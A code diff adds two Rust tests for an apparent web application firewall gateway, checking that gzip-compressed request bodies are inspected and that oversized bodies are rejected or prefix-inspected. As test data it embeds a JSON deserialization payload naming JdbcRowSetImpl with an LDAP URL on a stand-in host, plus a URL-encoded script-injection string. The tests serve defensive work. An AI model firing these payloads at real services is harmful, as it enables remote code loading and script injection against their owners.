@@ -365,3 +365,79 @@ async fn benign_corpus_passes_through_the_proxy() {
     assert!(sent >= 90, "only {sent} sent");
     assert!(blocked.is_empty(), "benign requests blocked: {blocked:?}");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn compressed_bodies_are_inspected_after_decompression() {
+    use std::io::Write;
+    let o = origin("o").await;
+    let g = Gateway::start(&[("s", site(o.addr, ""))], "", "");
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#).unwrap();
+    let gz = e.finish().unwrap();
+    let h = [
+        ("content-type", "application/json"),
+        ("content-encoding", "gzip"),
+    ];
+    assert_eq!(send(&g, "POST", "/api/x", &h, Some(gz)).await.0, 403);
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(r#"{"name":"张三","items":[1,2,3]}"#.as_bytes())
+        .unwrap();
+    let (s, body) = send(&g, "POST", "/api/x", &h, Some(e.finish().unwrap())).await;
+    assert_eq!(s, 200);
+    assert!(
+        echo(&body)["body_len"].as_i64().unwrap() > 0,
+        "the compressed body reaches the origin as sent"
+    );
+    assert_eq!(o.bodies(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bodies_over_the_inspection_limit_are_rejected_or_prefix_inspected() {
+    let o = origin("o").await;
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let big = format!("a={}", "x".repeat(3000));
+    let g = Gateway::start(
+        &[(
+            "s",
+            site(o.addr, "inspect_body_limit = 1024\nover_limit = \"reject\""),
+        )],
+        "",
+        "",
+    );
+    assert_eq!(
+        send(&g, "POST", "/f", &form, Some(big.clone().into_bytes()))
+            .await
+            .0,
+        413
+    );
+    drop(g);
+    let g = Gateway::start(
+        &[(
+            "s",
+            site(
+                o.addr,
+                "inspect_body_limit = 1024\nover_limit = \"inspect_prefix\"",
+            ),
+        )],
+        "",
+        "",
+    );
+    let (s, body) = send(&g, "POST", "/f", &form, Some(big.clone().into_bytes())).await;
+    assert_eq!(s, 200);
+    assert_eq!(
+        echo(&body)["body_len"],
+        big.len(),
+        "the whole body is forwarded"
+    );
+    // An attack inside the inspected prefix is still blocked.
+    let attack = format!(
+        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&a={}",
+        "x".repeat(3000)
+    );
+    assert_eq!(
+        send(&g, "POST", "/f", &form, Some(attack.into_bytes()))
+            .await
+            .0,
+        403
+    );
+}
